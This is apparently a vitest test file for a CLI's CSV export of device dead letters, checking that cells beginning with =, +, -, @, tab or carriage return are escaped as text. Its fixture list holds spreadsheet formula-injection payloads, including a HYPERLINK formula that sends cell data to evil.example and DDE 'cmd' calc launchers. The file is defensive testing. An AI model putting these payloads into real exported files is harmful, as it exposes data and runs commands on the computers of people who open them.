/**
 * `hajri-agent dead-letters export --format csv` writes what devices sent (raw frames, details
 * with employee codes) into cells. A cell that begins with =, +, -, @, TAB or CR is read by a
 * spreadsheet as a formula (=HYPERLINK(...) becomes a live link, =cmd|... worse). Every such cell
 * must come out as text. Real dead letters in a real spool directory, the real CLI, and a real
 * CSV reader (csv-parse) reading what it wrote.
 */
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse as parseCsv } from 'csv-parse/sync'
import pino from 'pino'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { runAgentCli } from '../../../agent/main.js'
import { DeadLetters } from '../../../agent/spool/dead-letters.js'
import { captureCli } from '../../support/cli-capture.js'

const log = pino({ level: 'silent' })

/** What a device (or someone posing as one) can put in a frame, one per leading character. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
]

let spoolDir: string
beforeAll(async () => {
  spoolDir = await mkdtemp(join(tmpdir(), 'hajri-review-csv-'))
  const dead = new DeadLetters({ dir: join(spoolDir, 'dead-letters'), log })
  await dead.open()
  await dead.add(
    HOSTILE.map((raw) => ({ deviceId: 'gate-1', reason: 'malformed_frame' as const, detail: raw, raw })),
  )
  await dead.drain()
})
afterAll(async () => {
  await rm(spoolDir, { recursive: true, force: true })
})

async function exportCsv(): Promise<string> {
  const argv = ['dead-letters', 'export', '--spool', spoolDir, '--format', 'csv']
  const result = await captureCli(runAgentCli, argv, { env: {}, cwd: spoolDir })
  expect(result.code).toBe(0)
  return result.stdout
}

describe('dead-letters export --format csv', () => {
  it('security review #4: no cell begins with =, +, -, @, TAB or CR: each such value is written as text (a leading quote)', async () => {
    const rows = parseCsv(await exportCsv(), { columns: true }) as Record<string, string>[]
    expect(rows).toHaveLength(HOSTILE.length)
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row))
        expect(cell, `${column}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/)
    }
    // Nothing lost: the value is the device's, after the quote that makes it text.
    expect(rows.map((r) => r.raw)).toEqual(HOSTILE.map((raw) => `'${raw}`))
    expect(rows.map((r) => r.detail)).toEqual(HOSTILE.map((raw) => `'${raw}`))
    // Ordinary values are left as they are.
    expect(rows.every((r) => r.deviceId === 'gate-1' && r.reason === 'malformed_frame')).toBe(true)
  })
})
